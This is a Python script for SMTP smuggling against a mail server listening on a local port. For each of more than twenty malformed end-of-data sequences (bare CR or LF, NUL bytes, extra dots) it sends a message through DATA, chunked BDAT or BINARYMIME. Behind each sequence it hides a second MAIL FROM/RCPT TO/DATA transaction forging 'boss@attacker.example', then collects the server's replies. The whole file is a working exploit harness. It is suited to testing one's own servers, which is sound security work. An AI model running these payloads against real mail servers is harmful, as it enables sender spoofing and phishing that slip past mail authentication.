"""Sends one message for each form in which some server has once seen an end of data, with a second message behind it.

Arguments: port, way in (data, bdat or binary), recipient. Prints for each form its name and the replies from the one to
the message on, as JSON.
"""
import concurrent.futures, json, socket, sys

port, way, to = int(sys.argv[1]), sys.argv[2], sys.argv[3]

# Line ends and what stands between them.
FORMS = {
    "lf-lf": b"\n.\n", "lf-crlf": b"\n.\r\n", "crlf-lf": b"\r\n.\n", "cr-cr": b"\r.\r", "crlf-cr": b"\r\n.\r",
    "cr-crlf": b"\r.\r\n", "lf-cr": b"\n.\r", "cr-lf": b"\r.\n", "crcrlf": b"\r\r\n.\r\r\n", "lfcr": b"\n\r.\n\r",
    "nul-dot": b"\r\n\0.\r\n", "dot-nul": b"\r\n.\0\r\n", "nul-dot-nul": b"\r\n\0.\0\r\n", "many-nul": b"\r\n\0\0\0.\0\r\n",
    "cr-nul-lf": b"\r\0\n.\r\0\n", "nul-lf": b"\0\n.\0\n", "dots-nul": b"\r\n..\0\r\n", "dots": b"\r\n..\r\n",
    "dot-space": b"\r\n. \r\n", "dot-vt": b"\r\n.\x0b\r\n", "dot-nel": b"\r\n.\x85\r\n",
    "lf-dots-lf": b"\n..\n", "plain": b"\r\nnothing hidden\r\n",
}

def attack(name, end):
    s = socket.create_connection(("127.0.0.1", port), 60)
    f = s.makefile("rwb")

    def reply():
        lines = []
        while True:
            line = f.readline().decode("latin-1")
            if not line:
                return "".join(lines) or None
            lines.append(line)
            if line[3:4] != "-":
                return line.strip()

    def say(text):
        f.write(text)
        f.flush()

    assert reply()[:3] == "220"
    say(b"EHLO attacker.example\r\n")
    assert reply()[:3] == "250"
    body = b" BODY=BINARYMIME" if way == "binary" else b""
    say(b"MAIL FROM:<mallory@attacker.example>" + body + b"\r\n")
    got = reply()
    assert got[:3] == "250", got
    say(b"RCPT TO:<" + to.encode() + b">\r\n")
    got = reply()
    assert got[:3] == "250", got
    header = b"From: mallory@attacker.example\r\nSubject: outer " + name.encode() + b" " + way.encode() + b"\r\n"
    if way == "binary":
        header += b"MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: binary\r\n"
    hidden = (
        b"MAIL FROM:<boss@attacker.example>\r\nRCPT TO:<" + to.encode() + b">\r\nDATA\r\n"
        b"From: boss@attacker.example\r\nSubject: hidden " + name.encode() + b"\r\n\r\nhidden"
    )
    message = header + b"\r\nbefore" + end + hidden + b"\r\n"
    # Where the end of a header may be seen.
    in_header = header + b"X-More: a" + end + hidden + b"\r\n"
    replies = []
    if way == "data":
        say(b"DATA\r\n")
        assert reply()[:3] == "354"
        # At the end of a message what is hidden needs an end of its own, and gets the real one.
        say(message + b".\r\n")
    elif way == "bdat":
        # Cut in the middle of what looks like an end.
        cut = message.index(end) + len(end) // 2
        first, second = message[:cut], message[cut:]
        say(b"BDAT %d\r\n" % len(first) + first + b"BDAT %d LAST\r\n" % len(second) + second)
    elif way == "binary":
        say(b"BDAT %d LAST\r\n" % len(message) + message)
        replies.append(reply())
        say(b"MAIL FROM:<mallory@attacker.example>" + body + b"\r\nRCPT TO:<" + to.encode() + b">\r\n"
            b"BDAT %d LAST\r\n" % len(in_header) + in_header)
        assert reply()[:3] == "250" and reply()[:3] == "250"
    say(b"QUIT\r\n")
    while (got := reply()) is not None:
        replies.append(got)
    return replies

# At the same time: some servers answer nonsense slowly.
with concurrent.futures.ThreadPoolExecutor(8) as pool:
    for name, replies in zip(FORMS, pool.map(attack, FORMS.keys(), FORMS.values())):
        print(json.dumps([name, replies]))
